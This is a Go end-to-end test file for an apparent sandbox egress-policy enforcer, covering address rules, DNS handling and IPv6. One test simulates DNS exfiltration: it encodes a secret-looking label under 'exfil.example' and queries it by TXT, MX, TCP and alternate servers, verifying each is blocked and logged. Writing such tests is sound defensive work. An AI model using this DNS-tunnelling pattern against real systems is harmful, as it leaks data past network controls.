@@ -1,0 +1,160 @@
+package e2e_test
+
+import (
+	"net"
+	"net/http"
+	"net/netip"
+	"slices"
+	"strings"
+	"testing"
+
+	"openshell.ai/openshell/test/fakenet"
+)
+
+func TestAddressesAreDecidedLikeNames(t *testing.T) {
+	t.Parallel()
+	p := newPair(t, `version: 1
+network_policies:
+  stream:
+    endpoints: [{host: 45.64.45.13, port: 80}, {host: "2a0e:b107:45::d", port: 80}]
+    binaries: [{path: /usr/bin/client}]
+`)
+	for _, a := range fakenet.Addrs(fakenet.StreamHost) {
+		worked(t, p.enforcing.client("get", "http://"+net.JoinHostPort(a.String(), "80")+"/listed"))
+	}
+	for _, a := range fakenet.Addrs(fakenet.WebHost) {
+		target := net.JoinHostPort(a.String(), "80")
+		r := p.enforcing.client("get", "http://"+target+"/x")
+		if body := refused(t, r, http.StatusForbidden); body.Error != "policy_denied" || body.Host != a.String() {
+			t.Errorf("%s: %s", target, r.Body)
+		}
+		p.unseen(fakenet.WebHost)
+		worked(t, p.permissive.client("get", "http://"+target+"/x"))
+		if seen := p.saw(fakenet.WebHost); !slices.Equal(seen, []string{"GET /x"}) {
+			t.Errorf("%s: the origin saw %q", target, seen)
+		}
+		if proposal := p.proposalFor("lenient", a.String()); !slices.Equal(allows(proposal), []string{"GET /x"}) {
+			t.Errorf("%s: proposal %+v", target, proposal.Rule)
+		}
+		p.net.Reset()
+	}
+	for _, a := range fakenet.Addrs(fakenet.EchoHost) {
+		target := net.JoinHostPort(a.String(), "7")
+		if r := p.enforcing.client("tcp", "-t", "5s", target, "hello"); r.OK {
+			t.Errorf("enforcing, %s: %+v", target, r)
+		}
+		p.unseen(fakenet.EchoHost)
+		if r := p.permissive.client("tcp", target, "hello"); r.Body != "hello" {
+			t.Errorf("permissive, %s: %+v", target, r)
+		}
+		p.proposalFor("lenient", a.String())
+		p.net.Reset()
+	}
+	for _, q := range p.net.Queries() {
+		t.Errorf("a connection to an address asked the name server for %s", q.Name)
+	}
+}
+
+const webOnly = `version: 1
+network_policies:
+  web:
+    endpoints: [{host: web.example, port: 80}, {host: missing.web.example, port: 80}, {host: ipv6only.example, port: 80},
+      {host: text.example, port: 80}]
+    binaries: [{path: /usr/bin/client}]
+`
+
+// synthetic are the ranges that names are given addresses from.
+var synthetic = map[string]netip.Prefix{
+	"A":    netip.MustParsePrefix("198.18.0.0/15"),
+	"AAAA": netip.MustParsePrefix("fc00::/7"),
+}
+
+func answered(t *testing.T, c *container, name, qtype string) {
+	t.Helper()
+	r := c.client("dns", name, qtype)
+	if r.Rcode != "NOERROR" || len(r.Answers) != 1 {
+		t.Fatalf("%s %s: %+v", qtype, name, r)
+	}
+	if a, err := netip.ParseAddr(r.Answers[0]); err != nil || !synthetic[qtype].Contains(a) {
+		t.Errorf("%s %s: answer %s is not synthetic", qtype, name, r.Answers[0])
+	}
+}
+
+func TestNamesThatNoRuleAllowsDoNotLeave(t *testing.T) {
+	t.Parallel()
+	p := newPair(t, webOnly)
+	const secret = "mfzwizltoq.exfil.example"
+	for _, qtype := range []string{"A", "AAAA"} {
+		answered(t, p.enforcing, fakenet.GitHubHost, qtype)
+		answered(t, p.enforcing, secret, qtype)
+		answered(t, p.enforcing, fakenet.WebHost, qtype)
+		answered(t, p.permissive, fakenet.GitHubHost, qtype)
+	}
+	for _, query := range [][]string{
+		{secret, "TXT"}, {secret, "MX"}, {fakenet.TextHost + ".x", "TXT"}, {fakenet.GitHubHost + ".cluster.example", "A"},
+	} {
+		if r := p.enforcing.client("dns", query[0], query[1]); r.Rcode != "NXDOMAIN" {
+			t.Errorf("enforcing, %s: %+v", query, r)
+		}
+	}
+	if r := p.enforcing.client("dns", "-tcp", secret, "TXT"); r.Rcode != "NXDOMAIN" {
+		t.Errorf("enforcing, over TCP: %+v", r)
+	}
+	// Any server that the workload names is the sandbox's.
+	if r := p.enforcing.client("dns", "-server", p.net.DNS().String(), secret, "TXT"); r.Rcode != "NXDOMAIN" {
+		t.Errorf("enforcing, another server: %+v", r)
+	}
+	if r := p.enforcing.client("get", "https://"+secret+"/"); r.Status != http.StatusForbidden {
+		t.Errorf("enforcing, connection to a name that does not exist: %+v", r)
+	}
+	if p.asked("exfil.example") || p.asked("cluster.example") {
+		t.Errorf("names left the sandbox: %+v", p.net.Queries())
+	}
+	if !p.asked(fakenet.WebHost) || !p.asked(fakenet.GitHubHost) {
+		t.Errorf("names that may leave did not: %+v", p.net.Queries())
+	}
+	if !strings.Contains(p.auditLog(p.enforcing), secret) {
+		t.Error("a name that was kept from leaving is not on record")
+	}
+}
+
+func TestNamesThatDoNotExist(t *testing.T) {
+	t.Parallel()
+	p := newPair(t, webOnly)
+	for _, qtype := range []string{"A", "AAAA", "TXT"} {
+		if r := p.permissive.client("dns", "nobody.example", qtype); r.Rcode != "NXDOMAIN" {
+			t.Errorf("permissive, %s: %+v", qtype, r)
+		}
+		if r := p.enforcing.client("dns", "missing.web.example", qtype); r.Rcode != "NXDOMAIN" {
+			t.Errorf("enforcing, allowed, %s: %+v", qtype, r)
+		}
+		if r := p.permissive.client("dns", fakenet.ServfailHost, qtype); r.Rcode != "SERVFAIL" {
+			t.Errorf("permissive, server failure, %s: %+v", qtype, r)
+		}
+	}
+	if r := p.enforcing.client("dns", fakenet.TextHost, "A"); r.Rcode != "NOERROR" || len(r.Answers) != 0 {
+		t.Errorf("a name without addresses: %+v", r)
+	}
+	if r := p.permissive.client("get", "http://nobody.example/"); r.OK || !strings.Contains(r.Error, "no such host") {
+		t.Errorf("connection to a name that does not exist: %+v", r)
+	}
+	if list := p.settled("lenient"); len(list) > 0 {
+		t.Errorf("proposals for names that do not exist: %q", subjects(list))
+	}
+}
+
+func TestIPv6(t *testing.T) {
+	t.Parallel()
+	p := newPair(t, webOnly)
+	worked(t, p.enforcing.client("get", "http://"+fakenet.IPv6OnlyHost+"/six"))
+	r := p.enforcing.client("dns", fakenet.WebHost, "AAAA")
+	worked(t, p.enforcing.client("get", "-H", "Host: web.example", "http://["+r.Answers[0]+"]/six"))
+	r = p.enforcing.client("dns", fakenet.GitHubHost, "AAAA")
+	if r = p.enforcing.client("get", "-H", "Host: api.github.example", "http://["+r.Answers[0]+"]/six"); r.Status != http.StatusForbidden {
+		t.Errorf("denied over IPv6: %+v", r)
+	}
+	if r := p.enforcing.client("dns", "-server", "[2001:db8::53]:53", fakenet.WebHost, "A"); r.Rcode != "NOERROR" {
+		t.Errorf("name server over IPv6: %+v", r)
+	}
+	p.unseen(fakenet.GitHubHost)
+}
